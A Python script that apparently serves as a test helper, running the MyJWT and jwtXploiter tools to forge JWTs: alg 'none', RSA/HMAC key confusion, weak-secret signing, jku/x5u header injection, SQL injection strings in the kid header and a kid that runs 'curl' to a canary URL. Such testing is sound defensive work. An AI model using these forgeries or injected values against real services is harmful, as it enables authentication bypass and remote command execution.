"""Runs published attack tools on good tokens, and prints what they made of them.

Reads {"tokens": {alg: token}, "public": PEM file, "issuer": URL of a JWK set, "canary": URL} from standard input, writes
[[tool, attack, token], …]. What the tools write into files ends in the working folder. Two tools, both from PyPI: MyJWT
and jwtXploiter.
"""

import contextlib
import io
import json
import sys
from pathlib import Path

from myjwt import modify_jwt, utils, vulnerabilities

# From MyJWT's own list of headers and jwtXploiter's own list of payloads; the rest is what their pages suggest.
SQL = ["' UNION SELECT 'key';--", "' or 1=1;--", "x' UNION SELECT '' FROM users--", "1; DROP TABLE keys"]
WORDS = ["secret", "password", "your-256-bit-secret", "changeme", "jwt", "0", " "]
DIGESTS = ["256", "384", "512"]


# jwtXploiter is one script, without a module.
SCRIPT = Path(sys.executable).parent / "jwtxpl"
CODE = compile(SCRIPT.read_text(), SCRIPT, "exec")


def xpl(token, *words):
    """As `jwtxpl TOKEN --quiet WORDS…`; the last line is the token."""
    said, before = io.StringIO(), sys.argv
    sys.argv = ["jwtxpl", token, "--quiet", *words]
    try:
        with contextlib.redirect_stdout(said):
            exec(CODE, {"__name__": "__main__"})
    except SystemExit as end:
        if end.code != 0:
            raise AssertionError(f"jwtxpl {words}: {said.getvalue()}") from end
    finally:
        sys.argv = before
    return said.getvalue().strip().splitlines()[-1]


def of_jwtxploiter(tokens, public, issuer, canary):
    for kind, token in tokens.items():
        for alg in ["none", "None"]:
            yield f"{kind} to {alg}", xpl(token, "-a", alg)
            yield f"{kind} to {alg}, another user", xpl(token, "-a", alg, "-p", "sub:admin")
        for digest in DIGESTS:
            yield f"{kind} confused with HS{digest}", xpl(token, "-a", f"HS{digest}", "-k", public, "-p", "sub:admin")
            yield f"{kind}, HS{digest} with a blank key", xpl(token, "-a", f"HS{digest}", "-b")
            yield f"{kind}, blank signature as HS{digest}", xpl(token, "-a", f"HS{digest}", "-n")
        for payload in ["DirTrv", "SQLi", "RCE"]:
            yield f"{kind}, kid {payload}", xpl(token, "-a", "HS256", "--inject-kid", payload)
        yield f"{kind}, kid runs a command", xpl(token, "-a", "HS256", "--exec-via-kid", f"curl {canary}")
        for word in WORDS:
            yield f"{kind}, key {word!r}", xpl(token, "-a", "HS256", "--specify-key", word)
        for more in (["-p", "sub:admin"], ["-p", "name:Root"], ["-T", "24"], ["-t", "1"], ["--remove-from", "payload:exp"]):
            yield f"{kind}, not verified: {' '.join(more)}", xpl(token, "-a", kind, "--unverified", *more)
    with_jku, with_x5u = tokens_with_urls(tokens, issuer)
    for alg in ["RS256", "RS384", "RS512", "PS256", "PS384", "PS512"]:
        yield f"own jwk in the header, {alg}", xpl(tokens["RS256"], "-a", alg, "--generate-jwk")
        yield f"own jku, {alg}", xpl(with_jku, "-a", alg, "--jku-basic", canary)
        yield f"jku redirects, {alg}", xpl(with_jku, "-a", alg, "--jku-redirect", f"{issuer}?to=HERE,{canary}")
        yield f"jku by header injection, {alg}", xpl(with_jku, "-a", alg, "--jku-inbody", f"{canary}?x=HERE")
        yield f"own x5u, {alg}", xpl(with_x5u, "-a", alg, "--x5u-basic", canary)
        yield f"x5u by header injection, {alg}", xpl(with_x5u, "-a", alg, "--x5u-inbody", f"{canary}?x=HERE")


def of_myjwt(tokens, public, issuer, canary):
    for kind, token in tokens.items():
        yield f"{kind} to none", vulnerabilities.none_vulnerability(token)
        yield f"{kind} confused with HS256", vulnerabilities.confusion_rsa_hmac(token, public)
        # It signs with secrets only.
        symmetric = modify_jwt.change_alg(utils.jwt_to_json(token), "HS256")
        for injection in SQL:
            yield f"{kind}, kid {injection}", vulnerabilities.inject_sql_kid(utils.encode_jwt(symmetric) + ".", injection)
        for word in WORDS:
            yield f"{kind}, key {word!r}", modify_jwt.signature(symmetric, word)
        admin = modify_jwt.add_payload(utils.jwt_to_json(token), {"sub": "admin"})
        yield f"{kind}, another user", utils.encode_jwt(admin) + "." + admin[utils.SIGNATURE]
    with_jku, with_x5u = tokens_with_urls(tokens, issuer)
    yield "own jku", vulnerabilities.jku_vulnerability(with_jku, canary)
    yield "own x5u", vulnerabilities.x5u_vulnerability(with_x5u, canary)


def tokens_with_urls(tokens, issuer):
    """As an issuer writes them that names its keys in each token: what attacks on `jku` and `x5u` begin with."""
    named = []
    for name in ["jku", "x5u"]:
        parts = modify_jwt.add_header(utils.jwt_to_json(tokens["RS256"]), {name: issuer})
        named.append(utils.encode_jwt(parts) + "." + parts[utils.SIGNATURE])
    return named


given = json.load(sys.stdin)
made = []
for tool, attacks in [("MyJWT", of_myjwt), ("jwtXploiter", of_jwtxploiter)]:
    with contextlib.redirect_stdout(sys.stderr):
        made += [[tool, name, token] for name, token in attacks(**given)]
json.dump(made, sys.stdout)
